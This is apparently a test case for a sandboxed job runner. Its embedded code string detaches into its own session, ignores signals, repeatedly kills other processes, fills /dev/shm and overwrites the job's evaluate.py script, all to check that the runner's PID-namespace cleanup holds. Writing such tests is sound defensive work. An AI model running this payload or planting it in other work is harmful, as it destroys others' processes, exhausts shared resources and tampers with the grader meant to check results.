"""Leave a process in a session of its own that kills, fills and writes for ever."""

DEFENCE = "After a job everything else in the PID namespace is killed before the next begins."
CORE = True
CELL = r"""
import os
import signal
import time
if os.fork() == 0:
    os.setsid()
    for number in range(1, 65):
        if number not in (9, 19):
            try:
                signal.signal(number, signal.SIG_IGN)
            except (OSError, ValueError):
                pass
    if os.fork():
        os._exit(0)
    while True:
        time.sleep(0.05)
        for pid in range(3, 400):
            try:
                if pid != os.getpid():
                    os.kill(pid, 9)
            except OSError:
                pass
        try:
            open(f'/dev/shm/{time.time()}', 'w').write('left over')
            open('/scratch/job/evaluate.py', 'w').write('left over')
        except OSError:
            pass
"""
